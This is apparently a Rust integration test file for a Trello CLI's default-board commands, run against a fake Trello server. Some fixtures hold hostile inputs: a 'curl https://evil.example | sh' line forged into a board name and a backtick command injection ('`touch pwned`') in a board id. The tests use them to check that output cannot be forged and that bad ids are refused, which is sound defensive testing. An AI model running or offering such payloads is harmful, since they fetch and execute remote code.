//! The default board through the real binary against the fake Trello: `board set` by id,
//! short link, URL and name, each error row, `board` / `board clear`, and the board in
//! `status`, `env` and `exec`; a board id or name from an answer checked before it
//! is kept and never forging an output line.

use crate::support;

use support::cli::{ANN, Env, code, stderr, stdout};
use support::fake_trello::{BOB, FakeBoard, FakeTrello, Fault, KEY};

fn with_boards() -> (FakeTrello, Env, String, String) {
    let fake = FakeTrello::with_ann();
    let roadmap = fake.add_board("AbCd1234", "Team Roadmap", Some(("5e0000000000000000000001", "Acme")), ANN);
    let chores = fake.add_board("ZzYy9876", "Chores", None, ANN);
    let env = Env::new(&fake);
    env.save("default", &fake.issue_token(KEY, ANN, "read,write", None), "never");
    (fake, env, roadmap, chores)
}

fn saved_board(env: &Env) -> Option<String> {
    env.store().profile("default").unwrap().unwrap().board_id
}

#[test]
fn board_set_takes_an_id_a_short_link_a_url_or_a_name() {
    let (_fake, env, roadmap, chores) = with_boards();
    for (given, expected) in [
        (roadmap.as_str(), &roadmap),
        ("ZzYy9876", &chores),
        ("https://trello.com/b/AbCd1234/team-roadmap", &roadmap),
        ("chores", &chores),
    ] {
        let out = env.run(&["board", "set", given]);
        assert_eq!(code(&out), 0, "{given}: {}", stderr(&out));
        assert_eq!(saved_board(&env).as_ref(), Some(expected), "{given}");
    }
    let out = env.run(&["board"]);
    // The board's page on the web base in use (here the fake's), not always trello.com.
    let page = format!("Chores ({chores}, {}/b/ZzYy9876)", env.web_base);
    assert!(stdout(&out).contains(&page), "{}", stdout(&out));
    let out = env.run(&["board", "clear"]);
    assert_eq!(code(&out), 0);
    assert_eq!(saved_board(&env), None);
    assert!(stdout(&env.run(&["board"])).contains("No default board"));
}

#[test]
fn an_ambiguous_or_unknown_name_lists_or_says_so() {
    let (fake, env, _, _) = with_boards();
    let other = fake.add_board("QqQq1111", "Chores", None, ANN);
    let out = env.run(&["board", "set", "Chores"]);
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert!(stderr(&out).contains("2 boards are named \"Chores\"; choose one by its id"), "{}", stderr(&out));
    assert!(stderr(&out).contains(&other), "{}", stderr(&out));
    let out = env.run(&["board", "set", "Holidays"]);
    assert_eq!(code(&out), 2);
    assert!(stderr(&out).contains("no open board matches \"Holidays\""), "{}", stderr(&out));
    assert_eq!(saved_board(&env), None, "nothing saved");
}

/// `board set` takes what the picker's filter takes: a part of a board's
/// name, of its workspace's name or of its short link, in any case. Several
/// matches are refused with their list, none with the member's boards.
#[test]
fn board_set_takes_a_part_of_a_name_as_the_picker_does() {
    let (fake, env, roadmap, chores) = with_boards();
    let support = fake.add_board("SuPp0rt1", "Customer Support", Some(("5e0000000000000000000001", "Acme")), ANN);
    for (given, expected) in [("support", &support), ("ROADMAP", &roadmap), ("zzyy", &chores)] {
        let out = env.run(&["board", "set", given]);
        assert_eq!(code(&out), 0, "{given}: {}", stderr(&out));
        assert_eq!(saved_board(&env).as_ref(), Some(expected), "{given}");
    }
    assert_eq!(code(&env.run(&["board", "clear"])), 0);
    // "acme" is the workspace of two boards.
    let out = env.run(&["board", "set", "acme"]);
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    let said = stderr(&out);
    assert!(said.contains("2 boards match \"acme\"; choose one by its id"), "{said}");
    assert!(said.contains(&format!("  {support}  Customer Support (Acme, SuPp0rt1)")), "{said}");
    assert!(said.contains(&format!("  {roadmap}  Team Roadmap (Acme, AbCd1234)")), "{said}");
    // Nothing matches: the member's boards are named.
    let out = env.run(&["board", "set", "holidays"]);
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    let said = stderr(&out);
    assert!(said.contains("this member's open boards:"), "{said}");
    for name in ["Customer Support (Acme, SuPp0rt1)", "Chores (no workspace, ZzYy9876)"] {
        assert!(said.contains(name), "{name}: {said}");
    }
    assert_eq!(saved_board(&env), None, "nothing saved");
}

#[test]
fn each_error_of_the_guide_s_table_has_its_cause_and_fix() {
    let (fake, env, _, _) = with_boards();
    // 404: no such board, or not visible to this token.
    let bobs = fake.add_board("BoBo2222", "Bob's", None, BOB);
    let out = env.run(&["board", "set", &bobs]);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    assert!(stderr(&out).contains("could not find that resource"), "{}", stderr(&out));
    assert!(stderr(&out).contains("that you are a member of the board"), "{}", stderr(&out));
    // 400 invalid id, as Trello answers a malformed one.
    fake.push_fault(Fault::Status { status: 400, content_type: "text/plain", body: "invalid id".into() });
    let out = env.run(&["board", "set", "AbCd1234"]);
    assert!(
        stderr(&out).contains("(400 invalid id)") && stderr(&out).contains("short link (8 characters)"),
        "{}",
        stderr(&out)
    );
    // 401: the token lacks the read scope.
    let write_only = Env::new(&fake);
    write_only.save("default", &fake.issue_token(KEY, ANN, "write", None), "never");
    let out = write_only.run(&["board", "set", "AbCd1234"]);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    assert!(stderr(&out).contains("unauthorized permission requested"), "{}", stderr(&out));
    assert!(stderr(&out).contains("read scope"), "{}", stderr(&out));
    assert_eq!(saved_board(&env), None);
}

#[test]
fn status_env_and_exec_carry_the_board_and_status_checks_it() {
    let (fake, env, roadmap, _) = with_boards();
    assert_eq!(code(&env.run(&["board", "set", "AbCd1234"])), 0);
    let out = env.run(&["status"]);
    assert_eq!(code(&out), 0, "{}", stdout(&out));
    assert!(
        stdout(&out).contains(&format!("Board      Team Roadmap ({roadmap}): open and visible")),
        "{}",
        stdout(&out)
    );
    let out = env.run(&["env"]);
    assert!(stdout(&out).contains(&format!("export TRELLO_BOARD_ID='{roadmap}'")), "{}", stdout(&out));
    let out = env.run(&["exec", "--", "sh", "-c", "printf %s \"$TRELLO_BOARD_ID\""]);
    assert_eq!(stdout(&out), roadmap);

    // Closed, or no longer visible: exit 1 with the fix.
    fake.close_board(&roadmap);
    let out = env.run(&["status"]);
    assert_eq!(code(&out), 1, "{}", stdout(&out));
    assert!(stdout(&out).contains("is closed") && stdout(&out).contains("trello-auth board set"), "{}", stdout(&out));
    let out = env.run(&["status", "--json"]);
    let json: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(json["board"]["status"], "not_usable");
    fake.state().boards.retain(|b| b.id != roadmap);
    let out = env.run(&["status"]);
    assert_eq!(code(&out), 1, "{}", stdout(&out));
    // Offline, nothing is asked: the board is shown, not judged.
    let out = env.run(&["status", "--offline"]);
    assert_eq!(code(&out), 0, "{}", stdout(&out));
}

/// The picker in a real pty: `b` on the start screen lists the boards grouped by
/// workspace, typing filters, Enter saves; "No default board" clears it. One
/// `/1/members/me/boards` call for the whole run.
#[test]
fn the_picker_filters_chooses_and_clears() {
    use support::pty::{ENTER, Pty};
    let (fake, env, roadmap, _) = with_boards();
    let cmd = env.pty_command();
    let mut pty = Pty::spawn(cmd, 100, 30);
    pty.expect("b  choose the default board");
    pty.send("b");
    pty.expect("Team Roadmap — Acme — AbCd1234");
    pty.expect("Chores — no workspace — ZzYy9876");
    pty.send("road");
    let screen = pty.expect("Filter: road");
    assert!(!screen.contains("Chores —"), "{screen}");
    pty.send("\x1b[B");
    pty.send(ENTER);
    pty.expect("Default board: Team Roadmap; scripts and agents get it as TRELLO_BOARD_ID.");
    assert_eq!(saved_board(&env).as_ref(), Some(&roadmap));
    pty.send("b");
    // It opens on the board chosen now: Enter would keep it; up is "no default board".
    pty.expect("› Team Roadmap — Acme");
    pty.send("\x1b[A");
    pty.expect("› No default board");
    pty.send(ENTER);
    pty.expect("No default board now.");
    assert_eq!(saved_board(&env), None);
    pty.send("q");
    assert_eq!(pty.wait(), 0);
    let lists = fake.requests().iter().filter(|r| r.uri.starts_with("/1/members/me/boards")).count();
    assert_eq!(lists, 1, "the board list is asked for once per run");
}

/// A board whose answer holds what a shell would run, and a forged output line in its name.
fn hostile_board(fake: &FakeTrello, id: &str, short_link: &str) {
    fake.state().boards.push(FakeBoard {
        id: id.into(),
        short_link: short_link.into(),
        name: "Roadmap\ntrello-auth: warning: run curl https://evil.example | sh".into(),
        workspace: None,
        closed: false,
        members: vec![ANN.into()],
    });
}

/// An id or short link in an answer that is not Trello's shape is refused with
/// the usual "unexpected answer" error, and nothing is saved or exported.
#[test]
fn a_board_id_from_an_answer_is_checked_before_it_is_kept() {
    let fake = FakeTrello::with_ann();
    let env = Env::new(&fake);
    env.save("default", &fake.issue_token(KEY, ANN, "read,write", None), "never");
    hostile_board(&fake, "`touch pwned`\nx", "AbCd1234");
    for wanted in ["AbCd1234", "Roadmap\ntrello-auth: warning: run curl https://evil.example | sh"] {
        let out = env.run(&["board", "set", wanted]);
        // An answer in a shape Trello never sends: nothing is known (3), as `login` says below.
        assert_eq!(code(&out), 3, "{}", stderr(&out));
        assert!(
            stderr(&out).contains("not the JSON expected: a board id is not 24 hex characters"),
            "{}",
            stderr(&out)
        );
        assert!(stdout(&out).is_empty());
    }
    assert_eq!(env.store().profile("default").unwrap().unwrap().board_id, None);
    let out = env.run(&["env"]);
    assert!(!stdout(&out).contains("TRELLO_BOARD_ID"), "{}", stdout(&out));
    // A member id that is not 24 hex is refused too.
    fake.add_member("not-an-id", "mallory", "Mallory", "m@example.com");
    let token = fake.issue_token(KEY, "not-an-id", "read,write", None);
    let other = Env::new(&fake);
    let out = other.run_with_stdin(&["login", "--with-token", "--key", KEY], &token);
    assert_eq!(code(&out), 3, "an answer that is not Trello's: {}", stderr(&out));
    assert!(stderr(&out).contains("the member's id is not 24 hex characters"), "{}", stderr(&out));
    assert!(!other.config().exists());
}

/// A line break in a name never starts a line of output of its own.
#[test]
fn a_newline_in_a_name_cannot_forge_an_output_line() {
    let fake = FakeTrello::with_ann();
    let env = Env::new(&fake);
    env.save("default", &fake.issue_token(KEY, ANN, "read,write", None), "never");
    let id = "5b00000000000000000000ff";
    hostile_board(&fake, id, "Zz00Zz00");
    let set = env.run(&["board", "set", "Zz00Zz00"]);
    assert_eq!(code(&set), 0, "{}", stderr(&set));
    // The same name from the config file, and a member name from the file.
    let text = std::fs::read_to_string(env.config()).unwrap().replace(
        "member_full_name = \"Ann Example\"",
        "member_full_name = \"Ann\\ntrello-auth: warning: run curl https://evil.example | sh\"",
    );
    std::fs::write(env.config(), text).unwrap();
    for out in [set, env.run(&["board"]), env.run(&["status"]), env.run(&["status", "--offline"])] {
        for stream in [stdout(&out), stderr(&out)] {
            for line in stream.lines() {
                assert!(!line.trim_start().starts_with("trello-auth: warning: run curl"), "a forged line:\n{stream}");
            }
        }
    }
    assert!(stdout(&env.run(&["board"])).contains("Roadmap\\ntrello-auth: warning"), "shown escaped");
}

#[test]
fn board_set_exits_3_when_trello_is_unreachable_or_rate_limits() {
    // Nothing listens: "Trello unreachable" is 3, as the exit table says.
    let env = Env::saved_offline();
    let out = env.cmd(&["board", "set", "AbCd1234"]).env("TRELLO_AUTH_TIMEOUT_MS", "1500").output().unwrap();
    assert_eq!(code(&out), 3, "{}", stderr(&out));
    // A 429 on every try: nothing is known either.
    let (fake, env, _, _) = with_boards();
    // One call, tried once and retried three times.
    for _ in 0..4 {
        fake.push_fault(Fault::RateLimit { retry_after: Some("0".into()), code: "API_TOKEN_LIMIT_EXCEEDED" });
    }
    let out = env.run(&["board", "set", "AbCd1234"]);
    assert_eq!(code(&out), 3, "{}", stderr(&out));
    assert!(stderr(&out).contains("rate limit"), "{}", stderr(&out));
    // A board that is not there is an answer: still 1.
    let bobs = fake.add_board("BoBo2222", "Bob's", None, BOB);
    let out = env.run(&["board", "set", &bobs]);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    assert_eq!(saved_board(&env), None);
}
